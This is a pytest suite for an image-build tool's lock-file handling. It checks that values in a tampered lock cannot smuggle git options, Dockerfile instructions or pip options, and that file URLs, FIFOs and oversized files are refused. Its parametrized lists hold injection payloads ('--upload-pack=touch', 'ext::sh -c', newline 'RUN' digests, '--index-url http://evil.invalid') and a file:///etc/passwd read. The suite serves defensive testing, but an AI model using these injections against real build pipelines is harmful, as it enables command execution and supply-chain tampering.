"""A lock someone else wrote (issue 34): `matrix.lock.json` is parsed into the lock's model (imagebuild/lock/model.py)
before any command uses it, `lock --check-remote` fetches what the MATRIX names (a lock entry whose spec differs is
a stale lock), no value of the lock becomes an option of git or a line of a Dockerfile, every `file:` URL is read
bounded, regular files only, inside the wheelhouse the matrix names, and every file the lock commands read or
write is refused when it is a FIFO or a device.

Real parts only: a git daemon on 127.0.0.1 serves the git source, a local wheelhouse holds the wheel, the CLI runs
as users run it (in a subprocess where the old code hung, with a timeout, so a hang fails the test).
"""

from __future__ import annotations

import hashlib
import json
import os
import resource
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml

from tests.gitserve import serving

REPO = Path(__file__).resolve().parents[1]
TORCH_WHEEL = "torch-2.13.0+cpu-cp311-cp311-manylinux_2_28_x86_64.whl"
BASE = "local/h1-base:v1"
HANG = 60  # seconds a command gets before the test calls it a hang (the old code waited forever)


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


@pytest.fixture(scope="module")
def git_source(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, str, str]]:
    """(url, commit, tree) of a repository served by git daemon on 127.0.0.1."""
    root = tmp_path_factory.mktemp("h1-git")
    env = {**os.environ, "GIT_AUTHOR_NAME": "h1", "GIT_AUTHOR_EMAIL": "h1@example.invalid",
           "GIT_COMMITTER_NAME": "h1", "GIT_COMMITTER_EMAIL": "h1@example.invalid"}  # fmt: skip
    src = root / "src"
    subprocess.run(["git", "init", "-q", str(src)], check=True, env=env)
    (src / "setup.py").write_text("print('one')\n")
    subprocess.run(["git", "-C", str(src), "add", "."], check=True, env=env)
    subprocess.run(["git", "-C", str(src), "commit", "-q", "-m", "one"], check=True, env=env)
    commit = subprocess.run(["git", "-C", str(src), "rev-parse", "HEAD"], capture_output=True, text=True, check=True)
    tree = subprocess.run(["git", "-C", str(src), "rev-parse", "HEAD^{tree}"], capture_output=True, text=True)
    (root / "srv").mkdir()
    subprocess.run(["git", "clone", "-q", "--bare", str(src), str(root / "srv" / "r.git")], check=True, env=env)
    with serving(root / "srv") as url:
        yield url, commit.stdout.strip(), tree.stdout.strip()


class Project:
    """A repository of its own: a small matrix (one CPU target whose base is made locally, a torch wheel from a
    local wheelhouse, a component from the git daemon, the pip runtime's requirements file) and its lock."""

    def __init__(self, root: Path, git: tuple[str, str, str]) -> None:
        self.root, (self.url, self.commit, self.tree) = root, git
        self.wheelhouse = root / "wheels"
        self.wheelhouse.mkdir(parents=True)
        self.wheel = self.wheelhouse / TORCH_WHEEL
        self.wheel.write_bytes(b"a wheel")
        data = yaml.safe_load((REPO / "matrix.yaml").read_text())
        data["platforms"] = {"cpu": dict(data["platforms"]["cpu"], base_image=BASE, pip_packages=[])}
        torch = data["torch"]["2.13"]
        torch["builds"]["cpu"]["find_links"] = str(self.wheelhouse)
        data["torch"] = {"2.13": torch}
        data["components"] = {
            "imagebuild-kernels": data["components"]["imagebuild-kernels"],
            "h1-src": {"description": "a git source", "distribution": "h1src", "kind": "python-ext",
                       "platforms": ["cpu"], "source": {"git": self.url, "commit": self.commit}, "supported": [],
                       "experimental": [], "optional": True},
        }  # fmt: skip
        data["runtimes"] = {"transformers-serve": data["runtimes"]["transformers-serve"]}
        target = {"name": "local-cpu", "axes": {"platform": ["cpu"], "torch": ["2.13"]}}
        data["targets"] = [target | {"components": ["imagebuild-kernels", "h1-src"], "runtime": "transformers-serve"}]
        data.pop("size_budgets", None)
        data.pop("oci_platforms", None)
        for folder in ("runtimes/transformers-serve", "dockerfiles/templates"):
            (root / folder).parent.mkdir(parents=True, exist_ok=True)
            subprocess.run(["cp", "-r", str(REPO / folder), str(root / folder)], check=True)
        self.matrix = root / "matrix.yaml"
        self.matrix.write_text(yaml.safe_dump(data, sort_keys=False))
        self.lock = root / "matrix.lock.json"
        self.doc = self.fresh_doc()
        self.write(self.doc)

    def fresh_doc(self) -> dict:
        """The lock `imagebuild lock` would write for the matrix (every input pinned, as this machine has it)."""
        from imagebuild.lock import inputs as lock_inputs
        from imagebuild.lock import lockfile, pipsets
        from imagebuild.matrix import load_matrix

        found = lock_inputs.collect(load_matrix(self.matrix))
        entries = {}
        for key, item in found.items():
            entry = {"spec": item.spec, "where": item.where, "status": "locked"}
            if item.kind == "image":
                entry |= {"status": "local", "image_id": "sha256:" + "1" * 64, "made_by": "the test"}
            elif item.kind == "git":
                entry |= {"commit": self.commit, "tree": self.tree}
            elif item.kind == "pip":
                files = [{"file": TORCH_WHEEL, "sha256": hashlib.sha256(b"a wheel").hexdigest(), "size": 7,
                          "url": f"file://{self.wheel}"}]  # fmt: skip
                packages = [{"name": "torch", "version": "2.13.0", "files": files}] if item.spec["find_links"] else []
                entry |= {"packages": packages, "requirements": pipsets.requirements_text(packages)}
            entries[key] = entry
        return json.loads(json.dumps(lockfile.document(found, entries, {"pip": "the test"})))

    def write(self, doc: dict) -> None:
        self.lock.write_text(json.dumps(doc, indent=1))

    def key(self, kind: str, contains: str = "") -> str:
        return next(k for k in self.doc["inputs"] if k.startswith(f"{kind}:") and contains in k)


@pytest.fixture
def project(tmp_path: Path, git_source: tuple[str, str, str]) -> Project:
    return Project(tmp_path / "repo", git_source)


def run(project: Project, *args: str, timeout: float = HANG, **kw: object) -> subprocess.CompletedProcess[str]:
    """The console entry point on the project's matrix; a hang past `timeout` fails the test (TimeoutExpired)."""
    env = {k: v for k, v in os.environ.items() if k != "PIP_FIND_LINKS"} | {"PYTHONPATH": str(REPO)}
    return subprocess.run(
        [sys.executable, "-m", "imagebuild.cli", "--matrix", str(project.matrix), *args],
        cwd=project.root, env=env, capture_output=True, text=True, timeout=timeout, **kw,  # type: ignore[call-overload]
    )  # fmt: skip


def one_error(done: subprocess.CompletedProcess[str], code: int, *says: str) -> str:
    """The command failed with `code` and said one `error:` line (no traceback) holding each of says."""
    assert done.returncode == code, (done.returncode, done.stdout[-2000:], done.stderr[-2000:])
    assert "Traceback" not in done.stderr, done.stderr[-3000:]
    errors = [line for line in done.stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and len(errors[0]) < 1200, done.stderr[-2000:]
    for said in says:
        assert said in errors[0], errors[0]
    return errors[0]


# ---- the check runs what the matrix names; nothing from the lock becomes an option of git ----


def test_check_remote_ok_then_changed_and_nothing_written(project: Project) -> None:
    before = sorted(str(p) for p in project.root.rglob("*"))
    ok = run(project, "lock", "--check-remote", "--deadline", "10")
    assert ok.returncode == 0, ok.stdout + ok.stderr
    assert ok.stdout.count("\nok ") + ok.stdout.startswith("ok ") == 5 and "5 input(s): 5 ok" in ok.stdout
    project.wheel.write_bytes(b"b wheel")  # the locked size, another sha256
    changed = run(project, "lock", "--check-remote", "--deadline", "10")
    one_error(changed, 1, "1 input(s) unreachable, changed or not locked")
    assert f"changed     {project.key('pip', ':torch')}: " in changed.stdout and "expected sha256" in changed.stdout
    assert sorted(str(p) for p in project.root.rglob("*")) == before  # nothing written


HOSTILE_URLS = [
    "--upload-pack=touch {marker}",
    "--upload-pack=touch {marker};false",
    "-u touch {marker}",
    "-utouch {marker}",
    "--config=core.sshCommand=touch {marker}",
    "-c core.sshCommand=touch {marker}",
    "--receive-pack=touch {marker}",
    "ext::sh -c touch% {marker}",
    "ext::touch {marker}",
    "https://example.invalid/r.git\n--upload-pack=touch {marker}",
    "file:///tmp/x\ttouch {marker}",
]


@pytest.mark.parametrize("hostile", HOSTILE_URLS)
def test_a_git_url_from_the_lock_runs_no_command(project: Project, hostile: str, tmp_path: Path) -> None:
    """The lock's copy of a git URL is never fetched: the lock's model refuses what is not a URL (exit 2, the
    key path named) before any process starts, and no marker file appears."""
    marker = tmp_path / "ran"
    key = project.key("git")
    project.doc["inputs"][key]["spec"]["url"] = hostile.format(marker=marker)
    project.write(project.doc)
    done = run(project, "lock", "--check-remote", "--deadline", "5")
    assert not marker.exists(), "a command ran from the lock"
    one_error(done, 2, f'matrix.lock.json: inputs["{key}"].spec.url: ')


@pytest.mark.parametrize("hostile", HOSTILE_URLS)
def test_git_refuses_an_option_or_a_command_as_url_or_commit(hostile: str, tmp_path: Path) -> None:
    """Below the model: gitsrc itself takes only a URL of the matrix's grammar and a 40-hex commit (and puts
    `--` before them), so no caller can hand git an option."""
    from imagebuild.lock import gitsrc

    marker = tmp_path / "ran"
    url = hostile.format(marker=marker)
    status, detail = gitsrc.check(url, "0" * 40, None, 5)
    assert not marker.exists(), "a command ran"
    assert status != "ok" and "refused" in detail
    with pytest.raises(gitsrc.GitError, match="refused"):
        gitsrc.fetch_commit("https://example.invalid/r.git", url, tmp_path / "repo.git", 5)
    assert not marker.exists()


def test_a_lock_spec_that_differs_from_the_matrix_is_refused_before_any_request(project: Project) -> None:
    """A well-formed URL of the lock's own (another server) is not fetched either: the lock is stale (exit 1)."""
    key = project.key("git")
    project.doc["inputs"][key]["spec"]["url"] = f"git://127.0.0.1:{_free_port()}/elsewhere.git"
    project.write(project.doc)
    started = time.monotonic()
    done = run(project, "lock", "--check-remote", "--deadline", "30")
    one_error(done, 1, "stale lock: components.h1-src.source: git ", "changed since the lock (url: matrix ")
    assert time.monotonic() - started < 25 and "ok " not in done.stdout  # refused before any check ran


def test_the_check_fetches_the_matrix_spec_not_the_locks(git_source: tuple[str, str, str]) -> None:
    """remote.check is given the matrix's specs: the lock entry's own copy (a port that refuses) is not asked."""
    from imagebuild.lock import model, remote

    url, commit, tree = git_source
    spec = {"url": url, "commit": commit, "ref": None}
    elsewhere = {**spec, "url": f"git://127.0.0.1:{_free_port()}/r.git"}
    entry = {"spec": elsewhere, "status": "locked", "where": "t", "commit": commit, "tree": tree}
    doc = model.validate({"schema_version": 1, "about": "t", "resolver": {}, "inputs": {"git:x": entry}, "targets": {}})
    [result] = remote.check(doc, {"git:x": spec}, limit=10, jobs=1)
    assert result["status"] == "ok", result


# ---- file: URLs: regular files inside the wheelhouse the matrix names, bounded, under the deadline ----


def _point_wheel_at(project: Project, url: str) -> None:
    key = project.key("pip", ":torch")
    project.doc["inputs"][key]["packages"][0]["files"][0]["url"] = url
    project.write(project.doc)


@pytest.mark.parametrize("case", ["fifo", "dev-zero-link", "dev-zero-url", "outside-link", "outside-url", "grows"])
def test_a_file_url_is_bounded_regular_and_inside_the_wheelhouse(project: Project, case: str) -> None:
    outside = project.root / "secret.txt"
    outside.write_text("not a wheel\n")
    project.wheel.unlink()
    if case == "fifo":
        os.mkfifo(project.wheel)
    elif case == "dev-zero-link":
        project.wheel.symlink_to("/dev/zero")
    elif case == "dev-zero-url":
        _point_wheel_at(project, "file:///dev/zero")
    elif case == "outside-link":
        project.wheel.symlink_to(outside)
    elif case == "outside-url":
        _point_wheel_at(project, f"file://{outside}")
    elif case == "grows":
        with project.wheel.open("wb") as fh:  # the lock says 7 bytes; a sparse 64 GiB file is not hashed whole
            fh.truncate(64 << 30)
    started = time.monotonic()
    done = run(project, "lock", "--check-remote", "--deadline", "5")
    took = time.monotonic() - started
    one_error(done, 1, "1 input(s) unreachable, changed or not locked")
    line = next(line for line in done.stdout.splitlines() if ":torch:" in line or ":torch " in line)
    assert line.startswith("changed"), line
    expected = {"fifo": "FIFO", "dev-zero-link": "outside the wheelhouse", "dev-zero-url": "outside the wheelhouse",
                "outside-link": "outside the wheelhouse", "outside-url": "outside the wheelhouse",
                "grows": "larger than the 7 bytes locked"}[case]  # fmt: skip
    assert expected in line, line
    assert took < 30, f"took {took:.1f} s"


def test_a_file_url_without_a_wheelhouse_in_the_spec_is_refused_by_the_model(project: Project) -> None:
    key = project.key("pip", ":base")
    entry = project.doc["inputs"][key]
    files = [{"file": "x-1.0-py3-none-any.whl", "sha256": "0" * 64, "url": "file:///etc/passwd"}]
    entry["packages"] = [{"name": "x", "version": "1.0", "files": files}]
    entry["requirements"] = [f"x==1.0 --hash=sha256:{'0' * 64}"]
    project.write(project.doc)
    one_error(run(project, "lock", "--check-remote"), 2, f'inputs["{key}"]: ', "names no wheelhouse")


# ---- nothing from the lock becomes a Dockerfile line or a pip option ----

HOSTILE_DIGESTS = [
    "sha256:" + "a" * 64 + "\nRUN touch /tmp/h1-pwned",
    "sha256:" + "a" * 64 + "\r\nRUN touch /tmp/h1-pwned",
    "sha256:" + "a" * 64 + " AS evil",
    "sha256:" + "A" * 64,
    "sha256:" + "a" * 63,
    "sha512:" + "a" * 128,
    "sha256:" + "a" * 64 + "\u2028RUN x",
]


@pytest.mark.parametrize("digest", HOSTILE_DIGESTS)
def test_a_digest_from_the_lock_never_becomes_a_dockerfile_instruction(project: Project, digest: str) -> None:
    key = f"image:{BASE}"
    project.doc["inputs"][key] |= {"status": "locked", "digest": digest, "registry": "docker.io"}
    project.doc["inputs"][key].pop("image_id")
    project.write(project.doc)
    dockerfile = project.root / "dockerfiles" / "local-cpu" / "Dockerfile"
    for args in (("render",), ("render", "--check")):
        one_error(run(project, *args), 2, f'matrix.lock.json: inputs["{key}"].digest: ')
        assert not dockerfile.exists()


@pytest.mark.parametrize(
    "line",
    [
        "torch==2.13.0 --hash=sha256:{sha}\n--index-url http://evil.invalid/simple",
        "torch==2.13.0 --hash=sha256:{sha} --extra-index-url=http://evil.invalid/simple",
        "--index-url=http://evil.invalid/simple",
        "torch==2.13.0 --hash=sha256:{sha}\r-e git+https://evil.invalid/x",
        "torch @ https://evil.invalid/torch.whl --hash=sha256:{sha}",
        "torch==2.13.0",
    ],
)
def test_a_lock_requirement_line_holds_no_pip_option(project: Project, line: str) -> None:
    key = project.key("pip", ":torch")
    sha = project.doc["inputs"][key]["packages"][0]["files"][0]["sha256"]
    project.doc["inputs"][key]["requirements"] = [line.format(sha=sha)]
    project.write(project.doc)
    one_error(run(project, "render"), 2, f'matrix.lock.json: inputs["{key}"]')
    assert not (project.root / "dockerfiles" / "local-cpu").exists()


def test_one_rule_for_every_value_a_dockerfile_template_is_given() -> None:
    """Below the lock's model: render refuses any value with a line break or control character, wherever it sits
    in the template context (the matrix's values and the lock's alike)."""
    from imagebuild.errors import ConfigError
    from imagebuild.render import dockerfile

    dockerfile._one_line({"platform": {"base_ref": "a@sha256:" + "0" * 64}, "labels": {"k": "v"}, "n": [1, None]})
    for bad in ("x\nRUN y", "x\rRUN y", "x\x00", "x\x1b[2J", "x\u2028y", "x\x85y"):
        with pytest.raises(ConfigError, match=r"render: platform\.locked\[1\] holds"):
            dockerfile._one_line({"platform": {"locked": ["ok", bad]}})


# ---- a tampered lock: one line naming the key path, for every command that reads it ----


def _tamper(doc: dict, how: str) -> None:
    inputs = doc["inputs"]
    pip = next(k for k in inputs if k.endswith(":torch"))
    git = next(k for k in inputs if k.startswith("git:"))
    if how == "wrong-type-deep":
        inputs[pip]["packages"][0]["files"][0]["size"] = "7"
    elif how == "bool-for-int":
        inputs[pip]["packages"][0]["files"][0]["size"] = True
    elif how == "missing-status":
        del inputs[git]["status"]
    elif how == "missing-spec-key":
        del inputs[pip]["spec"]["find_links"]
    elif how == "huge-string":
        inputs[git]["where"] = "x" * (12 << 20)
    elif how == "list-for-dict":
        inputs[git]["spec"] = [inputs[git]["spec"]]
    elif how == "inputs-a-list":
        doc["inputs"] = list(inputs.values())
    elif how == "dict-for-list":
        doc["targets"]["local-cpu"]["linux/amd64"] = {"a": 1}
    elif how == "null-entry":
        inputs[git] = None
    elif how == "number-digest":
        inputs[f"image:{BASE}"]["image_id"] = 5
    elif how == "extra-key":
        inputs[git]["upload_pack"] = "touch x"
    elif how == "unknown-kind":
        inputs["exec:x"] = {"spec": {}, "status": "locked", "where": "x"}
    elif how == "deep-nesting":
        inputs[git]["submodules"] = "DEEP"  # 5000 nested lists, put in the text below


TAMPERINGS = ["wrong-type-deep", "bool-for-int", "missing-status", "missing-spec-key", "huge-string",
              "list-for-dict", "inputs-a-list", "dict-for-list", "null-entry", "number-digest", "extra-key",
              "unknown-kind", "deep-nesting"]  # fmt: skip
COMMANDS = [("lock", "--check-remote"), ("render",), ("render", "--check"), ("build", "--dry-run", "local-cpu")]


@pytest.mark.parametrize("how", TAMPERINGS)
def test_a_tampered_lock_is_one_located_line_in_every_command(project: Project, how: str, cli) -> None:
    assert cli("--matrix", str(project.matrix), "render", env={"PIP_FIND_LINKS": None}).exit_code == 0
    dockerfile = project.root / "dockerfiles" / "local-cpu" / "Dockerfile"
    rendered = dockerfile.read_text()  # build --dry-run needs it
    _tamper(project.doc, how)
    project.lock.write_text(json.dumps(project.doc).replace('"DEEP"', "[" * 5000 + "]" * 5000))
    env = {"PIP_FIND_LINKS": None}
    for args in COMMANDS:
        done = cli("--matrix", str(project.matrix), *args, env=env)
        assert done.exception is None, (args, repr(done.exception))
        assert done.exit_code == 2, (args, done.exit_code, done.stdout[-500:], done.stderr[-500:])
        errors = [line for line in done.stderr.splitlines() if line.startswith("error:")]
        assert len(errors) == 1 and errors[0].startswith("error: matrix.lock.json: "), (args, done.stderr[-600:])
        assert len(done.stderr) < 2000, (args, len(done.stderr))
    assert dockerfile.read_text() == rendered


# ---- files the lock commands read and write: never a FIFO, never half written ----


@pytest.mark.parametrize("args", COMMANDS)
def test_a_fifo_at_the_lock_is_refused_not_waited_on(project: Project, args: tuple[str, ...]) -> None:
    assert run(project, "render").returncode == 0  # build --dry-run needs the Dockerfile
    project.lock.unlink()
    os.mkfifo(project.lock)
    one_error(run(project, *args, timeout=HANG), 2, "matrix.lock.json", "FIFO")


def test_the_report_is_written_by_the_safe_writer(project: Project, tmp_path: Path) -> None:
    fifo = tmp_path / "report.fifo"
    os.mkfifo(fifo)
    started = time.monotonic()
    one_error(run(project, "lock", "--check-remote", "--report", str(fifo)), 2, str(fifo), "FIFO")
    assert time.monotonic() - started < 30
    target = tmp_path / "elsewhere.json"
    target.write_text("keep me\n")
    link = tmp_path / "report.json"
    link.symlink_to(target)
    done = run(project, "lock", "--check-remote", "--report", str(link))
    assert done.returncode == 0, done.stderr
    assert target.read_text() == "keep me\n" and not link.is_symlink()  # the link is replaced, not its target
    assert json.loads(link.read_text())["counts"] == {"ok": 5}


def test_a_full_disk_leaves_no_half_report_and_names_the_file(project: Project, tmp_path: Path) -> None:
    """RLIMIT_FSIZE stands in for a full disk (writes past 256 bytes fail with EFBIG, as ENOSPC would)."""
    out = tmp_path / "out"
    out.mkdir()
    report = out / "report.json"

    def small_files() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (256, 256))

    done = run(project, "lock", "--check-remote", "--report", str(report), preexec_fn=small_files)
    one_error(done, 2, str(report))
    assert list(out.iterdir()) == []  # no report, no empty one, no temp file


def test_render_out_refuses_a_fifo_manifest(project: Project, tmp_path: Path) -> None:
    out = tmp_path / "rendered"
    (out / "local-cpu").mkdir(parents=True)
    os.mkfifo(out / "local-cpu" / "manifest.json")
    one_error(run(project, "render", "--out", str(out)), 2, "manifest.json", "FIFO")
    assert not (out / "local-cpu" / "Dockerfile").exists()  # every file or none


def test_render_check_says_a_fifo_among_the_rendered_files(project: Project) -> None:
    assert run(project, "render").returncode == 0
    dockerfile = project.root / "dockerfiles" / "local-cpu" / "Dockerfile"
    dockerfile.unlink()
    os.mkfifo(dockerfile)
    one_error(run(project, "render", "--check"), 1, "Dockerfile (is a FIFO")
